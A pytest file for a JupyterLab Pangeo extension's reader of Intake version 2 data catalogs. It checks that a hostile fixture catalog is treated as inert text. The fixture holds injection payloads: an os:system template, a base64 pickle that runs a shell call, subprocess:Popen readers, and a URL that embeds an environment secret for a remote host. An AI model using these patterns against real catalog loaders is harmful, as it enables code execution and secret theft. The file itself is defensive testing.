"""The reader of Intake's second format: references, templates, and nothing of a catalog runs."""

from pathlib import Path
from typing import Any

import pytest

from jupyterlab_pangeo.worker.limits import Limits
from jupyterlab_pangeo.worker.problems import Fault
from jupyterlab_pangeo.worker.readers import Facts, Found, Source
from jupyterlab_pangeo.worker.readers.intake_v2 import READER

HEAD = "version: 2\nmetadata: {}\n"
HOSTILE = (
    HEAD
    + """
aliases: {x: e1, gone: e9}
data:
  d0: {datatype: "intake.readers.datatypes:CSV", kwargs: {url: "http://h/t.csv?{env(SECRET)}"}}
  d1: {datatype: "evil:Thing", kwargs: {url: /a}}
entries:
  e1:
    reader: "intake.readers.convert:Pipeline"
    kwargs: {steps: [["{func(os:system)}", ["touch marker"], {}]]}
  pickled:
    reader: "intake.readers.readers:PandasCSV"
    kwargs: {args: ["{pickle64(gASVIAAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAVlY2hvIJSFlFKULg==)}"]}
  imported: {reader: 'intake.readers.readers:PandasCSV', kwargs: {args: ['{import(evil:Thing)}']}}
  foreign: {reader: "subprocess:Popen", kwargs: {args: ["touch", "marker"]}}
  lookalike: {reader: "intake.readers:os.system", kwargs: {args: ["touch marker"]}}
  secret: {reader: 'intake.readers.readers:PandasCSV', kwargs: {args: ['{data(d0)}']}}
  attribute: {reader: 'intake.readers.readers:PandasCSV', kwargs: {args: ['/a/{p.__class__}']}}
  strange: {reader: 'intake.readers.readers:PandasCSV', kwargs: {args: ['{data(d1)}']}}
user_parameters:
  p: {cls: "evil:Thing", default: 1}
  q: {default: "env(SECRET)"}
"""
)


def read(text: str, location: str = "/data/catalog.yaml", **limits: Any) -> tuple[dict[str, Found], Facts]:
    facts = Facts(problems=[])
    source = Source(location=location, data=text.encode(), limits=Limits(**limits))
    return {found.name: found for found in READER.read(source, facts)}, facts


def codes(found: Found) -> set[str]:
    return {problem.code for problem in found.problems}


def entry(url: str, parameters: str = "{}", rest: str = "") -> str:
    return (
        f"{HEAD}data:\n  t: {{datatype: 'intake.readers.datatypes:Zarr', kwargs: {{url: \"{url}\"}}}}\n"
        "entries:\n  e: {reader: 'intake.readers.readers:XArrayDatasetReader', kwargs: {args: ['{data(t)}']}}\n"
        f"user_parameters: {parameters}\n{rest}"
    )


def test_code_and_secrets_stay_text(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("SECRET", "canary")
    found, facts = read(HOSTILE)
    assert "template" in codes(found["x"])
    for name in ("pickled", "imported", "secret", "attribute"):
        assert "template" in codes(found[name]), name
    for name in ("foreign", "lookalike", "strange"):
        assert "inert-code" in codes(found[name]), name
    assert "bad-entry" in codes(found["gone"])
    assert {problem.code for problem in facts.problems} == {"inert-code", "template"}
    assert "canary" not in str(list(found.values()))
    assert not list(tmp_path.iterdir())


def test_what_asks_for_code_is_told_to_the_page_so_that_no_code_by_intake_is_offered() -> None:
    found, _ = read(HOSTILE)
    told = {name: each.details.recipe.templates for name, each in found.items() if each.details.recipe}
    assert told["x"] == ["{func(os:system)}"]
    assert told["secret"] == ["{env(SECRET)}"]
    assert told["foreign"] == ["subprocess:Popen"]
    assert told["strange"] == ["evil:Thing"]


@pytest.mark.parametrize(
    ("written", "put"),
    [
        ("{CATALOG_DIR}/a", "/data/a"),
        ("/a/{p}", "/a/{{ p }}"),
        ("/a/{p:03d}", "/a/{{ '%03d' % p }}"),
        ("/a/{unknown}", "/a/{unknown}"),
        ("/a/{not a name}", "/a/{not a name}"),
    ],
)
def test_a_parameter_is_put_as_the_page_fills_it_in(written: str, put: str) -> None:
    found, _ = read(entry(written, "{p: {default: 1}}"))
    recipe = found["e"].details.recipe
    assert recipe is not None
    assert recipe.urls == [put]
    assert not found["e"].problems


def test_named_choices_are_offered_by_value_and_left_to_the_code() -> None:
    found, facts = read(entry("/a/{n}", "{n: {options: {low: 1, high: 2}, default: 1, description: Which}}"))
    [parameter] = facts.user_parameters
    assert (parameter.allowed, parameter.description) == ([1, 2], "Which (low: 1, high: 2)")
    assert found["e"].details.recipe is not None
    assert found["e"].details.recipe.templates == ["{n}"]


def test_several_choices_are_a_list() -> None:
    _, facts = read(entry("/a", "{m: {options: [x, y], default: [x]}}"))
    [parameter] = facts.user_parameters
    assert (parameter.type, parameter.allowed, parameter.default) == ("list", ["x", "y"], ["x"])


def test_a_reference_to_nothing_costs_only_its_entry() -> None:
    found, _ = read(entry("/a").replace("data(t)", "data(u)"))
    assert codes(found["e"]) == {"bad-entry"}
    assert codes(found["t"]) == {"no-reader-named"}


def test_the_source_shows_the_data_with_the_reader() -> None:
    found, _ = read(entry("/some/store"))
    assert found["e"].source.startswith("e: {reader")
    assert "/some/store" in found["e"].source


def test_a_catalog_of_the_first_format_that_one_of_the_second_names_is_read() -> None:
    found, _ = read("sources: {a: {driver: csv, args: {urlpath: /a.csv}}}")
    assert found["a"].format == "csv"


def test_a_file_without_its_parts_is_no_catalog() -> None:
    with pytest.raises(Fault) as caught:
        read("version: 2\nother: 1\n")
    assert caught.value.code == "not-a-catalog"


def test_data_of_the_net_that_name_a_path_are_marked() -> None:
    found, _ = read(entry("/etc/store.zarr"), location="https://h/c.yaml")
    assert codes(found["e"]) == {"local-path"}
